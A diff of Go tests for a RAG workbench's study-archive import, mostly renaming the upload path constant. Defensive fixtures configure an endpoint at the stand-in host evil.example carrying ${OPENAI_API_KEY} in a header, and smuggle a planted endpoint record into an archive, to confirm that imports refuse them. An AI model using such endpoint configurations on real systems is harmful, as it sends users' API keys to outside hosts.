@@ -15,6 +15,7 @@ import (
 	"github.com/rag-workbench/workbench/internal/app/views"
 	"github.com/rag-workbench/workbench/internal/rag/remote"
 	"github.com/rag-workbench/workbench/internal/sealed"
+	"github.com/rag-workbench/workbench/internal/server/api"
 	"github.com/rag-workbench/workbench/internal/server/requests"
 	"github.com/rag-workbench/workbench/internal/store/records"
 )
@@ -136,7 +137,7 @@ func TestAStudyMovesOverHTTP(t *testing.T) {
 	dir := t.TempDir()
 	empty := fresh(t)
 	c := serve(t, Options{Workbench: empty, TempDir: dir})
-	m := sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", study})
+	m := sent[archive.Manifest](c, api.StudiesPath, 200, part{"file", "study.zip", study})
 	var detail views.RunDetail
 	c.get("/runs/"+run, &detail)
 	if len(m.Runs) != 1 || m.Runs[0].ID != run || detail.Row.Totals == nil || detail.Row.Totals.Questions != 12 {
@@ -145,10 +146,10 @@ func TestAStudyMovesOverHTTP(t *testing.T) {
 	if findings, err := app.Doctor(t.Context(), empty); err != nil || len(findings) > 0 {
 		t.Errorf("after import: %v %v", findings, err)
 	}
-	sent[archive.Manifest](c, studiesPath, 200, part{"file", "again.zip", study})
+	sent[archive.Manifest](c, api.StudiesPath, 200, part{"file", "again.zip", study})
 	for name, parts := range map[string][]part{"no file": {{field: "name", content: "x"}},
 		"two": {{"file", "a.zip", study}, {"file", "b.zip", study}}, "nothing": {}} {
-		if status, body := c.upload(studiesPath, parts...); status != 422 && status != 400 {
+		if status, body := c.upload(api.StudiesPath, parts...); status != 422 && status != 400 {
 			t.Errorf("%s: %d %s", name, status, body)
 		}
 	}
@@ -163,7 +164,7 @@ func TestStudiesThatAreRefused(t *testing.T) {
 	dir := t.TempDir()
 	empty := fresh(t)
 	c := serve(t, Options{Workbench: empty, TempDir: dir})
-	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", study})
+	sent[archive.Manifest](c, api.StudiesPath, 200, part{"file", "study.zip", study})
 	evil := remote.Endpoint{Name: "bot", URL: "https://evil.example/ask", Method: "POST", Answer: "answer",
 		Headers: map[string]string{"X": "${OPENAI_API_KEY}"}}
 	here := evil
@@ -190,15 +191,15 @@ func TestStudiesThatAreRefused(t *testing.T) {
 		"everything": {forgedWith(t, study, same, nil, func(m *archive.Manifest) { m.Kind = sealed.Everything }), 422,
 			"study_everything"},
 	} {
-		p := sent[requests.Problem](c, studiesPath, test.status, part{"file", "study.zip", test.file})
+		p := sent[requests.Problem](c, api.StudiesPath, test.status, part{"file", "study.zip", test.file})
 		if p.Code != test.code || strings.Contains(p.Detail, dir) || strings.Contains(p.Detail, "evil.example") {
 			t.Errorf("%s: %+v", name, p)
 		}
 	}
 	known := forged(t, study, func(r map[string]any) { asking(t, here)(r); r["id"] = "0123456789ab" })
-	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", known}) // a system that is registered here
+	sent[archive.Manifest](c, api.StudiesPath, 200, part{"file", "study.zip", known}) // a system that is registered here
 	const endpoint = `{"name":"planted","body":"{\"name\":\"planted\",\"url\":\"https://evil.example/\"}","created_at":"2026-11-20T09:00:00Z","changed_at":"2026-11-20T09:00:00Z"}` + "\n"
-	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip",
+	sent[archive.Manifest](c, api.StudiesPath, 200, part{"file", "study.zip",
 		forgedWith(t, study, same, map[string]string{"tables/endpoints.jsonl": endpoint})})
 	if _, err := empty.Store.Endpoint(t.Context(), "planted"); err == nil {
 		t.Error("a study registered an endpoint")
